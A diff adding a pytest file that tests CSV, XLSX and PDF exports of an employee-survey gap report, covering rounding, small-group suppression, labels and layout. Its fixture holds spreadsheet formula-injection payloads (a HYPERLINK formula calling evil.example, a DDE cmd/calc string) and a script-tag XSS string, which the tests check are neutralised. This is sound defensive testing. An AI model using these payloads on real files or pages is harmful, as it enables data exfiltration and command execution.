@@ -1,0 +1,764 @@
+"""CSV, XLSX and PDF exports of a gap report snapshot (analytics/exports.py).
+
+Built from a small hand-made snapshot in the shape of docs/report-schema.md: no database.
+"""
+
+import copy
+import csv
+import datetime as dt
+import io
+import re
+
+import pytest
+from openpyxl import load_workbook
+from weasyprint import HTML
+
+from analytics.exports import (
+    CLASS_EXPLANATIONS,
+    CLASS_LABELS,
+    COLUMNS,
+    SECTIONS,
+    SUPPRESSED_NOTE,
+    format_effect,
+    format_mean,
+    format_p,
+    report_csv,
+    report_pdf,
+    report_pdf_html,
+    report_rows,
+    report_xlsx,
+    round_effect,
+    round_mean,
+    round_p,
+    round_pct,
+)
+from analytics.selectors import report_scope
+
+OC = "open_communication"
+CF = "customer_focus"
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+PHONE_LIKE = "+1 555 is my extension, call me"
+SVG = (
+    '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80" viewBox="0 0 300 80">'
+    '<title>gap-chart-marker</title><rect width="300" height="80" fill="#ccc"/></svg>'
+)
+
+FIGURES = {
+    # stated_vs_lived row column -> snapshot key
+    "n_leaders": "n_leaders",
+    "n_employees": "n_employees",
+    "leader_mean": "leader_mean",
+    "employee_mean": "employee_mean",
+    "gap": "gap",
+    "cliffs_delta": "cliffs_delta",
+    "p_value": "p_value",
+    "q_value": "q_value",
+    "favorable_pct": "employee_favorable_pct",
+    "unfavorable_pct": "employee_unfavorable_pct",
+    "leader_span": "leader_span",
+}
+
+
+def _suppressed_cell(value: str, segment: str) -> dict:
+    return {
+        "value": value,
+        "segment": segment,
+        "n_leaders": None,
+        "n_employees": None,
+        "leader_mean": None,
+        "employee_mean": None,
+        "gap": None,
+        "gap_ci": None,
+        "cliffs_delta": None,
+        "effect_size": None,
+        "test": None,
+        "p_value": None,
+        "q_value": None,
+        "employee_favorable_pct": None,
+        "employee_unfavorable_pct": None,
+        "leader_span": None,
+        "classification": "suppressed",
+        "severity": None,
+        "tags": [],
+    }
+
+
+def make_snapshot() -> dict:
+    return {
+        "organization": "acme",
+        "organization_name": "Acme & <Co>",
+        "wave": "2026-10",
+        "waves": ["2026-09", "2026-10"],
+        "method_version": "1.0",
+        "fingerprint": "ab" * 32,
+        "min_group_size": 5,
+        "values": [
+            {"code": OC, "name": "Open communication"},
+            {"code": CF, "name": "=cmd|' /C calc'!A0"},
+        ],
+        "responses": {"leadership": 4, "lived": 40, "onboarding": None, "exit": 0},
+        "self_deception_index": {
+            "value": 49.3825,
+            "n_values": 2,
+            "values": [OC, CF],
+            "definition": "100 × the mean, over values with enough data, of max(0, δ).",
+            "trend": [
+                {"wave": "2026-09", "value": None, "n_values": 0},
+                {"wave": "2026-10", "value": 49.3825, "n_values": 2},
+            ],
+        },
+        "stated_vs_lived": [
+            {
+                "value": OC,
+                "segment": "all",
+                "n_leaders": 4,
+                "n_employees": 31,
+                "leader_mean": 4.75,
+                "employee_mean": 2.7516,
+                "gap": 1.9984,
+                "gap_ci": [1.8897, 2.1062],
+                "cliffs_delta": 0.98765,
+                "effect_size": "large",
+                "test": "one_sample_t",
+                "employee_favorable_pct": 3.2258,
+                "employee_unfavorable_pct": 14.5161,
+                "leader_span": 1.0,
+                "classification": "blind_spot",
+                "severity": "critical",
+                "tags": [],
+                "p_value": 2.4935657662865295e-67,
+                "q_value": 0.012345,
+            },
+            {
+                "value": OC,
+                "segment": "department:Engineering",
+                "n_leaders": 4,
+                "n_employees": 7,
+                "leader_mean": 4.75,
+                "employee_mean": 2.8214,
+                "gap": 1.9286,
+                "gap_ci": None,
+                "cliffs_delta": 1.0,
+                "effect_size": "large",
+                "test": None,
+                "employee_favorable_pct": 0.0,
+                "employee_unfavorable_pct": 14.2857,
+                "leader_span": None,
+                "classification": "insufficient_data",
+                "severity": None,
+                "tags": ["watch"],
+                "p_value": None,
+                "q_value": None,
+            },
+            _suppressed_cell(OC, "department:Platform"),
+            {
+                "value": CF,
+                "segment": "all",
+                "n_leaders": 4,
+                "n_employees": 30,
+                "leader_mean": 3.25,
+                "employee_mean": 4.1307,
+                "gap": -0.8807,
+                "gap_ci": [-0.9647, -0.792],
+                "cliffs_delta": -0.778,
+                "effect_size": "large",
+                "test": "one_sample_t",
+                "employee_favorable_pct": 71.2,
+                "employee_unfavorable_pct": 0.0,
+                "leader_span": 1.0,
+                "classification": "hidden_strength",
+                "severity": None,
+                "tags": [],
+                "p_value": 0.00031,
+                "q_value": 0.045678,
+            },
+            _suppressed_cell(CF, "department:Platform"),
+        ],
+        "calibration": [
+            {
+                "value": OC,
+                "n_leaders": 4,
+                "n_employees": 31,
+                "mean_prediction": 80.0,
+                "actual_favorable_pct": 3.2258,
+                "error": 76.7742,
+                "suppressed": False,
+            },
+            {
+                "value": CF,
+                "n_leaders": 4,
+                "n_employees": None,
+                "mean_prediction": None,
+                "actual_favorable_pct": None,
+                "error": None,
+                "suppressed": True,
+            },
+        ],
+        "calibration_mae": 76.7742,
+        "profile_agreement": {
+            "values": [OC, CF],
+            "n_values": 2,
+            "rho": None,
+            "p_value": None,
+            "q_value": None,
+        },
+        "leavers_vs_stayers": [
+            {
+                "value": OC,
+                "segment": "all",
+                "waves": ["2026-09", "2026-10"],
+                "n_exit": 12,
+                "n_lived": 71,
+                "exit_mean": 2.5972,
+                "lived_mean": 2.7616,
+                "cliffs_delta": -0.15412,
+                "test": "mann_whitney_asymptotic",
+                "leaver_signal": False,
+                "suppressed": False,
+                "p_value": 0.35896,
+                "q_value": 0.48815,
+            },
+            {
+                "value": OC,
+                "segment": "department:Engineering",
+                "waves": ["2026-09", "2026-10"],
+                "n_exit": None,
+                "n_lived": None,
+                "exit_mean": None,
+                "lived_mean": None,
+                "cliffs_delta": None,
+                "test": None,
+                "leaver_signal": None,
+                "suppressed": True,
+                "p_value": None,
+                "q_value": None,
+            },
+        ],
+        "promised_vs_found": [
+            {
+                "value": OC,
+                "segment": "all",
+                "n": 10,
+                "mean_expected": 4.7,
+                "mean_found": 2.9,
+                "mean_difference": 1.8,
+                "rank_biserial": 1.0,
+                "share_worse": 0.9,
+                "share_equal": 0.1,
+                "share_better": 0.0,
+                "credibility_gap": True,
+                "suppressed": False,
+                "p_value": 0.00390625,
+                "q_value": 0.0081631,
+            },
+            {
+                "value": CF,
+                "segment": "all",
+                "n": None,
+                "mean_expected": None,
+                "mean_found": None,
+                "mean_difference": None,
+                "rank_biserial": None,
+                "share_worse": None,
+                "share_equal": None,
+                "share_better": None,
+                "credibility_gap": None,
+                "suppressed": True,
+                "p_value": None,
+                "q_value": None,
+            },
+        ],
+        "trends": [
+            {
+                "value": OC,
+                "waves": [
+                    {"wave": "2026-09", "n": None, "mean": None},
+                    {"wave": "2026-10", "n": 31, "mean": 2.7516},
+                ],
+                "n_waves": 1,
+                "tau": None,
+                "slope": None,
+                "slope_ci": None,
+                "p_value": None,
+                "q_value": None,
+                "declining": None,
+                "change": {
+                    "from": "2026-09",
+                    "to": "2026-10",
+                    "n_previous": None,
+                    "n_current": None,
+                    "change": None,
+                    "cliffs_delta": None,
+                    "test": None,
+                    "p_value": None,
+                    "q_value": None,
+                },
+            },
+        ],
+        "enps": {
+            "question": "enps",
+            "n": 40,
+            "promoters": 10,
+            "passives": 16,
+            "detractors": 14,
+            "score": -11.290322580645162,
+            "ci": [-24.29552237456731, 2.248278280079119],
+            "suppressed": False,
+        },
+        "reliability": [
+            {
+                "value": OC,
+                "n_items": 4,
+                "n": 30,
+                "alpha": 0.65237,
+                "alpha_ci": [0.52689, 0.74467],
+                "warning": "low",
+                "note": None,
+                "suppressed": False,
+            },
+            {
+                "value": CF,
+                "n_items": 3,
+                "n": None,
+                "alpha": None,
+                "alpha_ci": None,
+                "warning": None,
+                "note": None,
+                "suppressed": True,
+            },
+        ],
+        "drivers": [
+            {
+                "value": OC,
+                "outcome": "enps",
+                "question": "enps",
+                "n": 39,
+                "rho": 0.53789,
+                "suppressed": False,
+                "p_value": 0.0004,
+                "q_value": 0.00123456,
+            },
+        ],
+        "priorities": [
+            {
+                "value": OC,
+                "priority": 1.07759,
+                "basis": "gap",
+                "driver_rho": 0.53789,
+                "gap": 1.9984,
+                "classification": "blind_spot",
+                "rank": 1,
+            },
+        ],
+        "comments": {
+            "shown": True,
+            "min_group_size": 10,
+            "n_respondents": 40,
+            "items": [
+                {"question": "comment", "text": INJECTION},
+                {"question": "comment", "text": PHONE_LIKE},
+                {"question": "comment", "text": "Decisions come <script>alert(1)</script> late."},
+            ],
+        },
+        "multiple_comparisons": {"method": "benjamini-hochberg", "n_tests": 8},
+    }
+
+
+@pytest.fixture
+def snapshot() -> dict:
+    return make_snapshot()
+
+
+def _rows(rows: list[dict], section: str, **match) -> list[dict]:
+    return [
+        r for r in rows if r["section"] == section and all(r.get(k) == v for k, v in match.items())
+    ]
+
+
+def _one(rows: list[dict], section: str, **match) -> dict:
+    found = _rows(rows, section, **match)
+    assert len(found) == 1, (section, match, found)
+    return found[0]
+
+
+def _csv_rows(data: dict) -> tuple[list[str], list[dict]]:
+    raw = report_csv(data)
+    assert raw.startswith(b"\xef\xbb\xbf")
+    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
+    header, *body = list(reader)
+    return header, [dict(zip(header, line, strict=True)) for line in body]
+
+
+def _figure(value) -> float | str:
+    """A cell's content for comparing exports: numbers as numbers, text as text."""
+    if isinstance(value, int | float):
+        return float(value)
+    try:
+        return float(value)
+    except ValueError:
+        return value
+
+
+# --- Rounding ------------------------------------------------------------------------------
+
+
+def test_rounding_follows_the_pages():
+    assert round_mean(2.7516) == 2.8
+    assert round_pct(3.2258) == 3
+    assert round_effect(0.98765) == 0.99
+    # As the page's filters format a float (f"{x:.1f}"): an exact tie goes to even.
+    assert round_mean(4.75) == 4.8
+    assert round_mean(4.25) == 4.2
+    assert round_pct(2.5) == 2
+    assert round_pct(3.5) == 4
+    # A rounded zero has no minus sign.
+    assert str(round_mean(-0.04)) == "0.0"
+    assert str(round_pct(-0.4)) == "0"
+    assert round_p(0.00390625) == 0.00391
+    assert round_p(0.0556) == 0.0556
+    assert round_p(0.123456) == 0.123
+    assert round_p(1.0) == 1.0
+    assert round_p(0.001) == 0.001
+    assert round_p(0.000999) == "<0.001"
+    assert round_p(2.49e-67) == "<0.001"
+    assert format_p(0.52) == "0.52"
+    assert format_p(2.49e-67) == "<0.001"
+    assert format_mean(-0.8807, signed=True) == "\u22120.9"
+    assert format_effect(1.0, signed=True) == "+1.00"
+    assert round_mean(None) is None
+    assert round_p(None) is None
+    assert round_mean(float("nan")) is None
+
+
+def test_rows_are_rounded_as_on_the_pages(snapshot):
+    rows = report_rows(snapshot)
+    oc = _one(rows, "stated_vs_lived", value=OC, segment="all")
+    assert oc["employee_mean"] == 2.8
+    assert oc["leader_mean"] == 4.8
+    assert oc["gap"] == 2.0
+    assert (oc["gap_ci_low"], oc["gap_ci_high"]) == (1.9, 2.1)
+    assert oc["favorable_pct"] == 3
+    assert oc["cliffs_delta"] == 0.99
+    assert oc["p_value"] == "<0.001"
+    assert oc["q_value"] == 0.0123
+    assert oc["classification"] == "blind_spot"
+    assert oc["severity"] == "critical"
+    cf = _one(rows, "stated_vs_lived", value=CF, segment="all")
+    assert cf["gap"] == -0.9
+    assert (cf["gap_ci_low"], cf["gap_ci_high"]) == (-1.0, -0.8)
+    assert cf["cliffs_delta"] == -0.78
+    assert cf["q_value"] == 0.0457
+
+    assert _one(rows, "self_deception_index", wave="2026-10")["index"] == 49
+    assert _one(rows, "calibration", value=OC)["error_pp"] == 77
+    enps = _one(rows, "enps")
+    assert (enps["enps"], enps["enps_ci_low"], enps["enps_ci_high"]) == (-11, -24, 2)
+    alpha = _one(rows, "reliability", value=OC)
+    assert (alpha["alpha"], alpha["alpha_ci_low"], alpha["alpha_ci_high"]) == (0.65, 0.53, 0.74)
+    promised = _one(rows, "promised_vs_found", value=OC)
+    assert (promised["share_worse_pct"], promised["share_equal_pct"]) == (90, 10)
+    assert promised["p_value"] == 0.00391
+    assert promised["credibility_gap"] == "yes"
+    assert _one(rows, "priorities", value=OC)["priority"] == 1.08
+
+
+def test_every_row_has_its_sections_columns(snapshot):
+    rows = report_rows(snapshot)
+    for row in rows:
+        assert list(row) == ["section", *SECTIONS[row["section"]]]
+    assert {r["section"] for r in rows} == set(SECTIONS)
+
+
+# --- Suppression: rows stay, figures never ---------------------------------------------------
+
+
+def test_a_suppressed_cell_keeps_its_row_without_any_figure(snapshot):
+    rows = report_rows(snapshot)
+    row = _one(rows, "stated_vs_lived", value=OC, segment="department:Platform")
+    assert row["classification"] == "suppressed"
+    assert row["note"] == SUPPRESSED_NOTE == "fewer than k responses"
+    assert row["value_name"] == "Open communication"
+    identity = {"section", "value", "value_name", "segment", "classification", "note"}
+    assert all(v is None for k, v in row.items() if k not in identity)
+
+
+def test_suppressed_entries_of_every_view_carry_no_figure(snapshot):
+    rows = report_rows(snapshot)
+    leavers = _one(rows, "leavers_vs_stayers", segment="department:Engineering")
+    assert leavers["note"] == SUPPRESSED_NOTE
+    assert leavers["n_exit"] is None
+    assert leavers["exit_mean"] is None
+    assert leavers["leaver_signal"] is None
+    promised = _one(rows, "promised_vs_found", value=CF)
+    assert promised["note"] == SUPPRESSED_NOTE
+    assert promised["credibility_gap"] is None
+    assert promised["share_worse_pct"] is None
+    # What the schema keeps for a suppressed entry: items count, leadership count.
+    reliability = _one(rows, "reliability", value=CF)
+    assert (reliability["n_items"], reliability["alpha"], reliability["n"]) == (3, None, None)
+    calibration = _one(rows, "calibration", value=CF)
+    assert calibration["n_leaders"] == 4
+    assert calibration["actual_favorable_pct"] is None
+    assert calibration["note"] == SUPPRESSED_NOTE
+    round_ = _one(rows, "trends", value=OC, wave="2026-09")
+    assert (round_["n"], round_["mean"], round_["note"]) == (None, None, SUPPRESSED_NOTE)
+    change = _one(rows, "wave_to_wave", value=OC)
+    assert change["change"] is None
+    assert change["note"] == SUPPRESSED_NOTE
+    assert _one(rows, "responses", group="onboarding")["note"] == SUPPRESSED_NOTE
+
+
+def test_rows_add_no_figure_that_the_snapshot_lacks(snapshot):
+    rows = report_rows(snapshot)
+    for cell in snapshot["stated_vs_lived"]:
+        row = _one(rows, "stated_vs_lived", value=cell["value"], segment=cell["segment"])
+        for column, key in FIGURES.items():
+            assert (row[column] is None) == (cell[key] is None), (cell["segment"], column)
+        assert (row["gap_ci_low"] is None) == (cell["gap_ci"] is None)
+    # The engine writes null figures for a suppressed cell; even if one slipped through,
+    # the export would not print it.
+    leaky = copy.deepcopy(snapshot)
+    leaky["stated_vs_lived"][2]["employee_mean"] = 2.5
+    row = _one(report_rows(leaky), "stated_vs_lived", value=OC, segment="department:Platform")
+    assert row["employee_mean"] is None
+
+
+def test_comments_only_when_shown(snapshot):
+    assert len(_rows(report_rows(snapshot), "comments")) == 3
+    hidden = copy.deepcopy(snapshot)
+    hidden["comments"]["shown"] = False  # items left in on purpose: still not exported
+    assert _rows(report_rows(hidden), "comments") == []
+    assert "Decisions come" not in report_csv(hidden).decode("utf-8-sig")
+
+
+def test_a_scoped_copy_exports_only_its_segments(snapshot):
+    scoped = report_scope(data=snapshot, department_names={"Engineering"})
+    rows = report_rows(scoped)
+    segments = {r["segment"] for r in rows if r["section"] == "stated_vs_lived"}
+    assert segments == {"all", "department:Engineering"}
+    assert "department:Platform" not in report_csv(scoped).decode("utf-8-sig")
+    assert _one(rows, "report")["scope"] == "departments: Engineering"
+
+
+# --- CSV -------------------------------------------------------------------------------------
+
+
+def test_csv_parses_with_one_header_and_neutralised_text(snapshot):
+    header, body = _csv_rows(snapshot)
+    assert header == ["section", *COLUMNS]
+    assert len(body) == len(report_rows(snapshot))
+    comments = [r["comment"] for r in body if r["section"] == "comments"]
+    assert comments[0] == "'" + INJECTION
+    assert comments[1] == "'" + PHONE_LIKE
+    assert comments[2].startswith("Decisions")
+    names = {r["value_name"] for r in body if r["section"] == "stated_vs_lived"}
+    assert names == {"Open communication", "'=cmd|' /C calc'!A0"}
+    # Negative numbers stay numbers.
+    cf = next(r for r in body if r["section"] == "stated_vs_lived" and r["value"] == CF)
+    assert cf["gap"] == "-0.9"
+    assert cf["cliffs_delta"] == "-0.78"
+    assert float(cf["gap"]) == -0.9
+    suppressed = next(r for r in body if r.get("segment") == "department:Platform")
+    assert suppressed["note"] == "fewer than k responses"
+    assert suppressed["employee_mean"] == suppressed["n_employees"] == ""
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(snapshot, start):
+    snapshot["comments"]["items"] = [{"question": "comment", "text": f"{start}1+2"}]
+    _, body = _csv_rows(snapshot)
+    assert [r["comment"] for r in body if r["section"] == "comments"] == [f"'{start}1+2"]
+    sheet = load_workbook(io.BytesIO(report_xlsx(snapshot)))["comments"]
+    # (XML reads a stored carriage return back as a line feed.)
+    assert sheet["B2"].value.replace("\n", "\r") == f"'{start}1+2".replace("\n", "\r")
+    assert sheet["B2"].data_type == "s"
+
+
+# --- XLSX ------------------------------------------------------------------------------------
+
+
+def test_xlsx_has_a_sheet_per_section_with_a_bold_frozen_header(snapshot):
+    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
+    assert book.sheetnames == list(SECTIONS)
+    for section, columns in SECTIONS.items():
+        sheet = book[section]
+        assert [c.value for c in sheet[1]] == columns
+        assert all(c.font.bold for c in sheet[1])
+        assert sheet.freeze_panes == "A2"
+    widths = book["comments"].column_dimensions
+    assert widths["B"].width > widths["A"].width
+
+
+def test_xlsx_stores_text_as_strings_and_numbers_as_numbers(snapshot):
+    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
+    comments = book["comments"]
+    assert comments["B2"].value == "'" + INJECTION
+    assert comments["B2"].data_type == "s"
+    assert comments["B3"].value == "'" + PHONE_LIKE
+    assert comments["B3"].data_type == "s"
+
+    sheet = book["stated_vs_lived"]
+    columns = SECTIONS["stated_vs_lived"]
+    rows = [
+        dict(zip(columns, (c for c in line), strict=True)) for line in sheet.iter_rows(min_row=2)
+    ]
+    cf = next(r for r in rows if r["value"].value == CF and r["segment"].value == "all")
+    assert cf["gap"].value == -0.9
+    assert cf["gap"].data_type == "n"
+    assert cf["value_name"].value == "'=cmd|' /C calc'!A0"
+    assert cf["value_name"].data_type == "s"
+    oc = next(r for r in rows if r["value"].value == OC and r["segment"].value == "all")
+    assert oc["n_employees"].value == 31
+    assert oc["employee_mean"].value == 2.8
+    assert oc["employee_mean"].number_format == "0.0"
+    assert oc["cliffs_delta"].number_format == "0.00"
+    assert oc["p_value"].value == "<0.001"
+    suppressed = next(r for r in rows if r["segment"].value == "department:Platform")
+    assert suppressed["classification"].value == "suppressed"
+    assert suppressed["note"].value == "fewer than k responses"
+    assert suppressed["employee_mean"].value is None
+    assert suppressed["gap"].value is None
+    # No cell anywhere is a formula.
+    for ws in book.worksheets:
+        for line in ws.iter_rows():
+            assert all(c.data_type != "f" for c in line)
+
+
+def test_csv_and_xlsx_hold_the_same_figures(snapshot):
+    _, body = _csv_rows(snapshot)
+    from_csv = set()
+    counters: dict[str, int] = {}
+    for row in body:
+        section = row["section"]
+        i = counters[section] = counters.get(section, 0) + 1
+        for column in SECTIONS[section]:
+            if row[column] != "":
+                from_csv.add((section, i, column, _figure(row[column])))
+    book = load_workbook(io.BytesIO(report_xlsx(snapshot)))
+    from_xlsx = set()
+    for section, columns in SECTIONS.items():
+        for i, line in enumerate(book[section].iter_rows(min_row=2, values_only=True), start=1):
+            for column, value in zip(columns, line, strict=True):
+                if value is not None:
+                    from_xlsx.add((section, i, column, _figure(value)))
+    assert from_csv == from_xlsx
+    assert ("stated_vs_lived", 4, "gap", -0.9) in from_csv
+    assert ("comments", 1, "comment", "'" + INJECTION) in from_xlsx
+
+
+# --- Labels ----------------------------------------------------------------------------------
+
+
+def test_every_classification_has_a_label_and_an_explanation():
+    classes = {
+        "blind_spot",
+        "hidden_strength",
+        "aligned_strength",
+        "shared_weakness",
+        "middling",
+        "insufficient_data",
+        "suppressed",
+    }
+    assert set(CLASS_LABELS) == set(CLASS_EXPLANATIONS) == classes
+    assert CLASS_LABELS["blind_spot"] == "Blind spot"
+    assert CLASS_LABELS["insufficient_data"] == "Not enough data"
+    assert CLASS_LABELS["suppressed"] == "Fewer than k responses"
+    assert CLASS_EXPLANATIONS["blind_spot"] == (
+        "Leaders rate this value clearly higher than employees experience it "
+        "(a significant, at least medium-sized gap)."
+    )
+    assert all(text.endswith(".") for text in CLASS_EXPLANATIONS.values())
+
+
+# --- PDF -------------------------------------------------------------------------------------
+
+
+def _html(data: dict, **kwargs) -> str:
+    return report_pdf_html(data, generated_on=dt.date(2026, 10, 14), **kwargs)
+
+
+def test_the_pdf_html_reads_as_a_report(snapshot):
+    html = _html(snapshot, charts={"gap": SVG}, generated_for="Leo Leader")
+    text = re.sub(r"\s+", " ", html)
+    assert "Acme &amp; &lt;Co&gt;" in text
+    assert 'Survey round</dt><dd class="round">2026-10' in text
+    assert "Method version</dt><dd>1.0" in text
+    assert "Minimum group size (k)</dt><dd>5" in text
+    assert "2026-10-14" in text
+    assert "Prepared for</dt><dd>Leo Leader" in text
+    assert "Confidential – anonymous survey results; groups smaller than k are not shown" in text
+    # The self-deception index with its definition.
+    assert '<span class="big">49</span>' in text
+    assert "100 × the mean, over values with enough data, of max(0, δ)." in text
+    # Stated vs lived, in words, with n and interval.
+    assert "Blind spot (critical)" in text
+    assert CLASS_EXPLANATIONS["blind_spot"] in text
+    assert "Hidden strength" in text
+    assert "Not enough data · Watch" in text
+    assert "2.8 (n 31)" in text
+    assert "1.9 to 2.1" in text
+    assert "\u22121.0 to \u22120.8" in text
+    # Calibration, promised vs found, leavers, trends, eNPS, reliability, priorities.
+    assert "predicted that 80% of employees would answer favorably; 3% did" in text
+    assert "Credibility gap:" in text
+    assert "90% found it worse" in text
+    assert "Leavers vs stayers" in text
+    assert "2026-10: <strong>2.8</strong>" in text
+    assert '<span class="big">\u221211</span>' in text
+    assert "95% interval \u221224 to 2" in text
+    assert "Read with care:</span> Open communication" in text
+    assert "Priorities: what to look at first" in text
+    # The chart goes in as SVG; comments are escaped text.
+    assert "<title>gap-chart-marker</title>" in text
+    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in text
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "<script>" not in text
+
+
+def test_suppressed_cells_print_fewer_than_k_responses(snapshot):
+    text = re.sub(r"\s+", " ", _html(snapshot))
+    assert re.search(
+        r"<tr><td>Platform</td><td class=\"suppressed\" colspan=\"8\">fewer than k responses</td>",
+        text,
+    )
+    assert 'Department: Engineering</td><td class="suppressed"' in text
+    assert "Employees' actual share: fewer than k responses" in text
+    assert "2026-09: <em>fewer than k responses</em>" in text
+
+
+def test_the_pdf_leaves_out_hidden_comments_and_absent_charts(snapshot):
+    snapshot["comments"] = {
+        "shown": False,
+        "min_group_size": 10,
+        "n_respondents": None,
+        "items": [],
+    }
+    text = re.sub(r"\s+", " ", _html(snapshot, charts=None))
+    assert "Comments are shown only when at least 10 people answered" in text
+    assert "HYPERLINK" not in text
+    assert "<svg" not in text
+    assert "<figure" not in text
+
+
+def test_the_pdf_is_an_a4_document_with_page_numbers(snapshot):
+    pdf = report_pdf(snapshot, charts={"gap": SVG}, generated_for="Leo Leader")
+    assert pdf.startswith(b"%PDF")
+    assert len(pdf) > 20_000
+
+    from django.conf import settings
+
+    document = HTML(string=_html(snapshot), base_url=str(settings.BASE_DIR)).render()
+    assert len(document.pages) >= 3
+    first = document.pages[0]
+    assert round(first.width * 25.4 / 96) == 210  # A4, in CSS pixels
+    assert round(first.height * 25.4 / 96) == 297
+
+    def texts(box):
+        if getattr(box, "text", None):
+            yield box.text
+        for child in getattr(box, "children", None) or []:
+            yield from texts(child)
+
+    last = " ".join(texts(document.pages[-1]._page_box))
+    assert f"Page {len(document.pages)} of {len(document.pages)}" in last
+    assert "groups smaller than k are not shown" in last
